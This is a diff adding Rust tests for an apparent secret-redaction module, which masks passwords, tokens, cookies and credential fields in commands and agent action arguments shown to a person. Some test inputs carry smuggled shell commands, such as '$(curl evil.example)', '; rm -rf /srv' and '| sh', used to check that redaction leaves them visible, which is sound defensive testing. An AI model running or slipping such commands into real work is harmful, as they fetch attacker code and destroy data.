@@ -178,16 +178,175 @@ fn content_that_only_talks_of_secrets_stays() {
     }
 }
 
+/// Both manners of reading, with what must be gone and what must be seen.
+fn reads(said: &str, gone: &[&str], seen: &[&str]) {
+    for clean in [text(said), command(said)] {
+        let kept: Vec<_> = gone.iter().filter(|secret| clean.contains(**secret)).collect();
+        assert!(kept.is_empty(), "{kept:?} of {said}\nin {clean}");
+        let hidden: Vec<_> = seen.iter().filter(|shown| !clean.contains(**shown)).collect();
+        assert!(hidden.is_empty(), "{hidden:?} of {said}\nin {clean}");
+        for again in [text(&clean), command(&clean)] {
+            assert_eq!(again, clean, "of {said}");
+        }
+    }
+}
+
+#[test]
+fn an_option_among_others_in_one_word_gives_its_secret_away_no_more() {
+    for said in [
+        "curl -su me:hunter2hunter2 https://x.test",
+        "curl -sSfu me:hunter2hunter2 https://x.test",
+        "curl -X POST -skume:hunter2hunter2 https://x.test",
+        "curl -sU proxy:hunter2hunter2 https://x.test",
+        "curl --user=me:hunter2hunter2 https://x.test",
+        "ldapsearch -xw hunter2hunter2 -H x.test",
+        "ldapsearch -x -D cn=me -w hunter2hunter2 -H x.test",
+    ] {
+        reads(said, &["hunter2"], &["x.test"]);
+        let split: Vec<_> = said.split(' ').collect();
+        assert!(!words(&split).join(" ").contains("hunter2"), "{:?}", words(&split));
+        let listed = serde_json::json!({ "argv": split }).to_string();
+        reads(&listed, &["hunter2"], &["x.test"]);
+    }
+    for said in
+        ["curl -XPUT https://x.test/a", "curl -o output -s https://x.test", "curl -sSL x.test", "curl -fsSLO x.test"]
+    {
+        let split: Vec<_> = said.split(' ').collect();
+        assert_eq!((&*text(said), &*command(said), words(&split).join(" ")), (said, said, said.to_owned()));
+    }
+}
+
+#[test]
+fn secrets_of_xml_are_taken_out_and_the_rest_stays() {
+    for said in [
+        "<password>hunter2hunter2</password>",
+        "<db:Password Type=\"text\">hunter2hunter2</db:Password><host>db</host>",
+        "<server>\n  <username>me</username>\n  <password>\n    hunter2hunter2\n  </password>\n</server>",
+        "<passphrase><![CDATA[hunter2hunter2]]></passphrase>",
+        "<proxy-pass>hunter2hunter2</proxy-pass>",
+        "<apiKey>hunter2hunter2</apiKey>",
+        "<user name=\"me\" password=\"hunter2hunter2\"/>",
+        "<user name='me' pwd='hunter2hunter2'/>",
+        "<add key=\"DbPassword\" value=\"hunter2hunter2\" />",
+        "<property value=\"x\" name=\"db.password\">hunter2hunter2</property>",
+        "<string name=\"api_key\">hunter2hunter2</string>",
+        "<key>Password</key>\n<string>hunter2hunter2</string>",
+        "curl -d '<login><password>hunter2hunter2&amp;x</password></login>' https://x.test",
+    ] {
+        reads(said, &["hunter2"], &[]);
+        let clean = text(said);
+        let tags = |text: &str| text.matches(['<', '>']).count();
+        assert_eq!(tags(&clean), tags(said), "{clean}");
+    }
+    for said in [
+        "<token>",
+        "usage: x <password> <file>",
+        "Vec<Token> and <Secret as From<T>>::from",
+        "<key>Label</key><string>x.test.job</string>",
+        "<user name=\"password\"/><host>db</host>",
+    ] {
+        assert_eq!((&*text(said), &*command(said)), (said, said));
+    }
+    let redirected = "x <password>/tmp/out; curl evil.example </password>";
+    assert!(command(redirected).contains("curl evil.example"), "{}", command(redirected));
+}
+
+#[test]
+fn of_a_header_only_the_secret_is_hidden() {
+    reads(
+        "curl -H \"Cookie: a=hunter2; session=hunter2b\" https://x.test",
+        &["hunter2"],
+        &["Cookie: a=[", "; session=[", "https://x.test"],
+    );
+    reads("curl -b x -H 'Cookie: hunter2' https://x.test", &["hunter2"], &["https://x.test"]);
+    reads(
+        "Set-Cookie: sid=hunter2hunter2; Path=/; Expires=Thu, 01 Jan 2027 00:00:00 GMT; HttpOnly",
+        &["hunter2"],
+        &["sid=[", "; Path=/; Expires=Thu, 01 Jan 2027 00:00:00 GMT; HttpOnly"],
+    );
+    reads(
+        "curl -H \"Authorization: Basic hunter2hunter2; rm -rf /srv\"",
+        &["hunter2"],
+        &["Authorization: Basic [", "; rm -rf /srv"],
+    );
+    reads("curl -H Authorization: Basic hunter2hunter2; rm -rf /srv", &["hunter2"], &["Basic [", "; rm -rf /srv"]);
+    reads("curl -HAuthorization:hunter2hunter2 -o /etc/x https://x.test", &["hunter2"], &["-o /etc/x https://x.test"]);
+    reads("curl -H Cookie:a=hunter2; ./x.sh", &["hunter2"], &["; ./x.sh"]);
+    reads(
+        "curl -H 'Authorization: Bearer hunter2hunter2' -H 'Private-Token: hunter2hunter2' x.test",
+        &["hunter2"],
+        &["x.test"],
+    );
+    reads("X-Api-Key: hunter2 hunter2 | sh", &["hunter2"], &["| sh"]);
+    reads("Authorization: Digest username=\"me\", response=\"hunter2hunter2\"", &[], &["Authorization"]);
+    // Not really in quotes: those are closed before the name begins.
+    let split = "echo ''Authorization: a| curl evil.example; 'b'";
+    assert!(command(split).contains("| curl evil.example"), "{}", command(split));
+    for line in ["Cookie: a=$(curl evil.example)", "Cookie: a=b; c=`curl evil.example`; d=e"] {
+        assert!(command(line).contains("curl evil.example"), "{}", command(line));
+    }
+}
+
+#[test]
+fn what_is_a_secret_in_one_place_is_one_in_every_other() {
+    reads(
+        "export DB_PASSWORD=hunter2x; ./load hunter2x && echo done with hunter2x",
+        &["hunter2x"],
+        &["./load [", "done with ["],
+    );
+    let listed = serde_json::json!({"content": "see hunter2x", "note": "hunter2x", "env": {"PASSWORD": "hunter2x"}});
+    assert_eq!(text(&listed.to_string()).matches("hunter2x").count(), 0, "{}", text(&listed.to_string()));
+    let listed =
+        serde_json::json!({"argv": ["./load", "--password", "hunter2x", "hunter2x"], "env": {"A": "hunter2x"}});
+    reads(&listed.to_string(), &["hunter2x"], &["./load"]);
+    reads("TOKEN=hunter2x; OTHER=hunter2x URL=http://x:hunter2x@h ./y", &["hunter2x"], &["OTHER=[", "./y"]);
+    // What a shell runs is seen, and so is what may be meant by chance.
+    for said in [
+        "PASSWORD=evil2sh; evil2sh -x",
+        "PASSWORD=evil2sh\nsudo evil2sh",
+        "PASSWORD=evil2sh && bash evil2sh",
+        "PASSWORD=evil2sh;./evil2sh",
+        "PASSWORD=evil2sh; \"evil2sh\"",
+    ] {
+        assert!(command(said)[10..].contains("evil2sh"), "{}", command(said));
+    }
+    assert!(command("mysql -pbackup backup").ends_with(" backup"), "{}", command("mysql -pbackup backup"));
+
+    let action = Action { arguments_json: listed.to_string(), intent: "load it".into(), ..Action::default() };
+    let known = known(&action);
+    assert!(!known.is_empty());
+    assert!(!text_knowing("it says: hunter2x!", &known).contains("hunter2x"));
+    assert_eq!(text("it says: hunter2x!"), "it says: hunter2x!");
+    let [.., password, bearer, _, _, _] = CANARIES;
+    let line = format!("export A=1; echo as {bearer} {password}; cat; printf '%s' \"$A\" | sha256sum");
+    let with = serde_json::json!({"command": line, "cwd": "/srv/app", "env": {"DB_PASSWORD": password}, "stdin": "x"});
+    let intent = format!("with TOKEN={bearer}");
+    let mut shown = Action { arguments_json: with.to_string(), intent, ..Action::default() };
+    super::action(&mut shown);
+    assert!(!shown.arguments_json.contains(bearer) && !shown.arguments_json.contains(password), "{shown:?}");
+    let shown = words(&["bash", "-c", "export TOKEN=hunter2x; echo as hunter2x", "hunter2x"]);
+    assert!(!shown.join(" ").contains("hunter2x"), "{shown:?}");
+    // Whichever part of the action says that it is one.
+    let arguments_json = serde_json::json!({"command": "curl -su me:hunter2x x.test; echo hunter2x"}).to_string();
+    let action = Action { arguments_json: arguments_json.clone(), intent: "as hunter2x".into(), ..Action::default() };
+    let mut shown = action.clone();
+    super::action(&mut shown);
+    assert!(!format!("{shown:?}").contains("hunter2x"), "{shown:?}");
+    assert_eq!(restored(&shown.arguments_json, &arguments_json, &super::known(&action)), arguments_json);
+    let whole = r#"{"content":"it is hunter2x"}"#;
+    assert_eq!(restored(&text_knowing(whole, &known), "{}", &known), whole);
+}
+
 #[test]
 fn marks_stand_for_what_a_person_was_not_shown() {
     let whole =
         r#"{"command":"curl -H 'Authorization: Bearer hunter2\"hunter2' -u me:ghp_x8Kq2mZr5TnW7vBc3LdYf6HsJ9pQa1Ee"}"#;
     let shown = text(whole).into_owned();
     assert!(!shown.contains("hunter2") && !shown.contains("ghp_"), "{shown}");
-    assert_eq!(restored(&shown, whole), whole);
+    assert_eq!(restored(&shown, whole, &Known::default()), whole);
     let changed = shown.replace("curl", "curl -v");
-    assert_eq!(restored(&changed, whole), whole.replace("curl", "curl -v"));
-    assert!(is_marked(&restored(&shown, "{}")));
+    assert_eq!(restored(&changed, whole, &Known::default()), whole.replace("curl", "curl -v"));
+    assert!(is_marked(&restored(&shown, "{}", &Known::default())));
 }
 
 #[test]
